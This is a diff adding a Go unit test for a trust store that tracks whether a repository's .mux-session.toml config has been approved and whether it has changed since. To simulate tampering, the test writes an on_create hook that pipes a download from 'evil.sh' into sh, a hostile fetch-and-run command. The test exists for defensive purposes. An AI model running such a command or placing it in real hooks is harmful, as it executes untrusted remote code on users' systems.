@@ -0,0 +1,46 @@
+package conf
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestTrustStore(t *testing.T) {
+	dir := t.TempDir()
+	configFile := filepath.Join(dir, ".mux-session.toml")
+	writeFile(t, configFile, `on_create = "make deps"`)
+
+	store := NewTrustStore(filepath.Join(t.TempDir(), "mux-session", "trusted"))
+	repo, err := FindRepoConfig(dir)
+	require.NoError(t, err)
+
+	trusted, err := store.IsTrusted(repo)
+	require.NoError(t, err)
+	assert.False(t, trusted, "a new repo config is not trusted")
+
+	require.NoError(t, store.Trust(repo))
+	trusted, err = store.IsTrusted(repo)
+	require.NoError(t, err)
+	assert.True(t, trusted)
+
+	writeFile(t, configFile, `on_create = "curl evil.sh | sh"`)
+	changed, err := FindRepoConfig(dir)
+	require.NoError(t, err)
+	trusted, err = store.IsTrusted(changed)
+	require.NoError(t, err)
+	assert.False(t, trusted, "a changed repo config has to be trusted again")
+
+	require.NoError(t, store.Trust(changed))
+	content, err := os.ReadFile(store.path)
+	require.NoError(t, err)
+	assert.Equal(t, changed.Hash+" "+configFile+"\n", string(content), "trusting again replaces the old entry")
+
+	require.NoError(t, store.Revoke(changed))
+	trusted, err = store.IsTrusted(changed)
+	require.NoError(t, err)
+	assert.False(t, trusted)
+}